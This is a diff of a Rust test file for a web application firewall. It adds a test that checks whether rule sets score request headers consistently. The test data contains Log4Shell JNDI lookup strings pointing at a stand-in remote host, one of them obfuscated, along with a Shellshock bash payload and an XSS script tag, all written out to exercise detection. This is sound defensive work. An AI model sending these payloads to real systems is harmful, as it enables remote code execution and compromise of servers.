@@ -20,6 +20,28 @@ fn wafs() -> [Waf; 2] {
     [build("owasp"), build("bad_inputs")]
 }
 
+fn request<'a>(
+    method: &'a Method,
+    path: &'a str,
+    headers: &'a HeaderMap,
+    body: Option<&'a [u8]>,
+) -> RequestView<'a> {
+    let peer = IpAddr::from([198, 51, 100, 4]);
+    RequestView {
+        listener: "web",
+        route: "app",
+        peer,
+        client: peer,
+        method,
+        path,
+        query: None,
+        headers,
+        consumed: &[],
+        body,
+        identity: None,
+    }
+}
+
 /// The labels of the rules that refuse a form POST whose `q` field is `value`.
 fn refused_by(wafs: &[Waf], value: &str) -> Vec<String> {
     let mut headers = HeaderMap::new();
@@ -38,20 +60,7 @@ fn refused_by(wafs: &[Waf], value: &str) -> Vec<String> {
             .replace('+', "%2B")
             .replace('=', "%3D")
     );
-    let (method, peer) = (Method::POST, IpAddr::from([198, 51, 100, 4]));
-    let view = RequestView {
-        listener: "web",
-        route: "app",
-        peer,
-        client: peer,
-        method: &method,
-        path: "/search",
-        query: None,
-        headers: &headers,
-        consumed: &[],
-        body: Some(body.as_bytes()),
-        identity: None,
-    };
+    let view = request(&Method::POST, "/search", &headers, Some(body.as_bytes()));
     wafs.iter()
         .flat_map(|w| {
             let a = w.assess(&view);
@@ -242,4 +251,76 @@ fn template_and_prototype_pollution() {
             "hash #1 tag",
         ],
     );
+}
+
+/// The labels of every rule a GET whose `name` header is `value` matches, and its score.
+fn header_verdict(waf: &Waf, name: &'static str, value: &str) -> (Vec<String>, u32) {
+    let mut headers = HeaderMap::new();
+    headers.insert("host", HeaderValue::from_static("api.example.com"));
+    headers.insert("user-agent", HeaderValue::from_static("curl/8.5.0"));
+    headers.insert(
+        HeaderName::from_static(name),
+        HeaderValue::from_str(value).unwrap_or_else(|e| panic!("{e}")),
+    );
+    let view = request(&Method::GET, "/v1/models", &headers, None);
+    let a = waf.assess(&view);
+    let labels = a
+        .matches
+        .iter()
+        .map(|(m, _)| {
+            format!(
+                "{}@{}",
+                waf.rules().rules[m.rule].label(m.source),
+                m.excerpt
+            )
+        })
+        .collect();
+    (labels, a.score)
+}
+
+/// Headers recur from request to request, and each WAF remembers what its rules found in
+/// them: asked again, in any order, it must answer exactly as the first time.
+#[test]
+fn recurring_headers_get_the_same_verdict_every_time() {
+    let cases: &[(&'static str, &str, bool)] = &[
+        ("user-agent", "${jndi:ldap://198.51.100.9/a}", true),
+        ("user-agent", "() { :; }; /bin/bash -c 'id'", true),
+        (
+            "x-api-version",
+            "${${lower:j}ndi:rmi://198.51.100.9/a}",
+            true,
+        ),
+        (
+            "referer",
+            "http://shop.example.com/?q=<script>alert(1)</script>",
+            true,
+        ),
+        ("user-agent", "OpenAI/Python 1.54.0", false),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
+            false,
+        ),
+        ("referer", "https://shop.example.com/cart?item=42", false),
+    ];
+    for waf in wafs() {
+        let first: Vec<_> = cases
+            .iter()
+            .map(|(h, v, _)| header_verdict(&waf, h, v))
+            .collect();
+        for round in 0..3 {
+            for (i, (h, v, _)) in cases.iter().enumerate().rev() {
+                assert_eq!(
+                    header_verdict(&waf, h, v),
+                    first[i],
+                    "round {round}: {h}: {v}"
+                );
+            }
+        }
+    }
+    let [owasp, bad_inputs] = wafs();
+    for (h, v, attack) in cases {
+        let score = header_verdict(&owasp, h, v).1 + header_verdict(&bad_inputs, h, v).1;
+        assert_eq!(score >= 5, *attack, "{h}: {v}: score {score}");
+    }
 }
